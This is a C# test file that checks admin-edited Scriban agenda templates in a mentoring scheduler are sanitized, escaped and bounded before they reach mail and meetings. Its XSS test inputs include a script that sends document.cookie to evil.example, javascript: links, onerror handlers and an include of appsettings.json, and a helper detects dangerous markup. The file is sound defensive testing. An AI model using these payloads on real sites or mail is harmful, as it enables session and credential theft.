using System.Net;
using System.Net.Http.Json;
using MentorScheduler.Api.Agendas;
using MentorScheduler.Api.Tests.Infrastructure;

namespace MentorScheduler.Api.Tests.Agendas;

/// <summary>
/// Admin-edited Scriban templates cannot hurt readers: values are escaped, the template's hostile markup and
/// hostile items come out inert in the mail and in the meeting, the dangerous parts of Scriban are refused at
/// save time with their place, and every render is bounded.
/// </summary>
public sealed class TemplateSafetyTests : TemplateAdminWorld
{
    [Fact]
    public async Task AHostileTemplateAndHostileItemsGiveInertHtmlInTheMailAndTheMeeting()
    {
        const string hostile = """
            <script>fetch('https://evil.example/'+document.cookie)</script>
            <p onclick="steal()" style="color:#b10e1c">Agenda {{ session.number }}</p>
            <a href="javascript:alert(1)">open</a> <a href="{{ for item in discussion_items }}{{ item.text }}{{ end }}">item link</a>
            <img src="x" onerror="steal()"><iframe src="https://evil.example/"></iframe>
            <ul>{{ for item in discussion_items }}<li title="{{ item.text }}">{{ item.text }}</li>{{ end }}</ul>
            <a href="https://contoso.example/mentoring">programme page</a>
            """;
        using var saved = await Admin.PutAsJsonAsync(Path, new { html = hostile, text = "Agenda {{ session.number }}" });
        Assert.Equal(HttpStatusCode.OK, saved.StatusCode);
        (await World.AddItem("adele.vance", 1, "javascript:alert(document.domain)")).EnsureSuccessStatusCode();
        (await World.AddItem("adele.vance", 1, "\"><script>alert(2)</script><img src=x onerror=alert(3)>")).EnsureSuccessStatusCode();

        World.SetClock(AgendaWorld.FirstSession.AddDays(-6));
        var sweep = await World.Sweep();
        Assert.True(sweep.GetProperty("delivered").GetInt32() == 1, sweep.ToString());

        var mail = (await World.Agendas(AgendaWorld.Megan)).Single().Body!.Content!;
        var meeting = (await World.Occurrence(1)).Body!.Content!;
        foreach (var html in new[] { mail, meeting })
        {
            Assert.Empty(Dangerous(html));
            Assert.Contains("&lt;script&gt;alert(2)&lt;/script&gt;", html, StringComparison.Ordinal);
            Assert.Contains("Agenda 1", html, StringComparison.Ordinal);
            Assert.Contains("href=\"https://contoso.example/mentoring\"", html, StringComparison.Ordinal);
        }
    }

    [Theory]
    [InlineData("<p>{{ capture x }}<b>raw</b>{{ end }}{{ x }}</p>", "Line 1, column 7", "capture")]
    [InlineData("<p>ok</p>\n{{ include 'appsettings.json' }}", "Line 2, column 4", "include")]
    [InlineData("<p>\n\n   {{ import names }}</p>", "Line 3, column 7", "import")]
    [InlineData("{{ func shout(x); ret x | string.upcase; end }}", "Line 1, column 4", "func")]
    [InlineData("{{ date.now }}", "Line 1, column 4", "date")]
    public async Task IncludeImportCaptureAndFuncAreRefusedWhereTheyAre(string html, string where, string what)
    {
        using var response = await Admin.PutAsJsonAsync(Path, new { html, text = "ok" });

        var problem = await ProblemAssert.ValidationProblem(response, "html");
        var message = problem.GetProperty("errors").GetProperty("html")[0].GetString()!;
        Assert.StartsWith(where, message, StringComparison.Ordinal);
        Assert.Contains($"'{what}'", message, StringComparison.Ordinal);
    }

    [Fact]
    public void TheEngineEscapesEveryOutputButNotTheTemplatesOwnMarkup()
    {
        var engine = new ScribanTemplateEngine(TimeProvider.System);
        var model = AgendaSample.Model() with { Names = new AgendaNames("<b>Adele</b> & \"co\"", "Megan") };

        var html = engine.Compile("<h1>{{ names.mentee }}</h1>{{ '<i>literal</i>' }}", TemplateFormat.Html).Render!(model);
        var text = engine.Compile("{{ names.mentee }}", TemplateFormat.Text).Render!(model);

        Assert.Equal("<h1>&lt;b&gt;Adele&lt;/b&gt; &amp; &quot;co&quot;</h1>&lt;i&gt;literal&lt;/i&gt;", html);
        Assert.Equal("<b>Adele</b> & \"co\"", text);
    }

    [Theory]
    [InlineData("{{ for i in 1..100000 }}x{{ end }}")]
    [InlineData("{{ for a in 1..900 }}{{ for b in 1..900 }}x{{ end }}{{ end }}")]
    [InlineData("{{ while true }}x{{ end }}")]
    public void ALoopThatWouldRunAwayIsStopped(string source)
    {
        var compiled = new ScribanTemplateEngine(TimeProvider.System).Compile(source, TemplateFormat.Html);

        Assert.True(compiled.Succeeded, string.Join(" | ", compiled.Errors));
        var error = Assert.ThrowsAny<Exception>(() => compiled.Render!(AgendaSample.Model()));
        Assert.IsType<Scriban.Syntax.ScriptRuntimeException>(error);
        Assert.Contains("limit", error.Message, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public async Task ATemplateWhoseAgendaWouldBeTooLongIsRefusedNotCut()
    {
        var html = "{{ for i in 1..900 }}<p>" + new string('x', 1000) + "</p>{{ end }}";

        using var response = await Admin.PutAsJsonAsync(Path, new { html, text = "ok" });

        var problem = await ProblemAssert.ValidationProblem(response, "html");
        Assert.Contains("longer than 200,000 characters", problem.GetProperty("errors").GetProperty("html")[0].GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task TheOpenApiDocumentListsTheTemplateVariables()
    {
        using var anonymous = World.App.Anonymous();
        var document = await anonymous.GetStringAsync("/openapi/v1.json");

        foreach (var name in new[] { "open_action_items[].owner_name", "session.start_for_mentor", "evaluation.prompt" })
            Assert.Contains(name, document, StringComparison.Ordinal);
    }

    [Fact]
    public void NoDotNetMemberIsReachable()
    {
        var engine = new ScribanTemplateEngine(TimeProvider.System);

        var output = engine.Compile("[{{ names.GetType }}][{{ names.mentee.Length }}][{{ relationship.goals.Count }}][{{ session.Equals }}]", TemplateFormat.Text)
            .Render!(AgendaSample.Model());

        Assert.Equal("[][][][]", output);
    }

    [Fact]
    public async Task ReadmeListsEveryVariableTheModelOffers()
    {
        var readme = await File.ReadAllTextAsync(System.IO.Path.Combine(Architecture.SourceTree.Root, "README.md"));

        foreach (var name in AgendaTemplateModel.Names())
            Assert.Contains($"`{name}`", readme, StringComparison.Ordinal);
    }

    /// <summary>Anything a mail client or Outlook could run or load, found in the parsed document (escaped text is not markup).</summary>
    private static List<string> Dangerous(string html)
    {
        var document = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(html);
        var found = new List<string>();
        foreach (var element in document.All)
        {
            if (element.LocalName is "script" or "iframe" or "img" or "object" or "embed" or "form" or "style") found.Add($"<{element.LocalName}>");
            foreach (var attribute in element.Attributes)
            {
                if (attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase)) found.Add($"{element.LocalName} {attribute.Name}");
                if (attribute.Name is "href" or "src" && !attribute.Value.StartsWith("https:", StringComparison.Ordinal)
                    && !attribute.Value.StartsWith("http:", StringComparison.Ordinal) && !attribute.Value.StartsWith("mailto:", StringComparison.Ordinal))
                    found.Add($"{element.LocalName} {attribute.Name}={attribute.Value}");
            }
        }
        return found;
    }
}
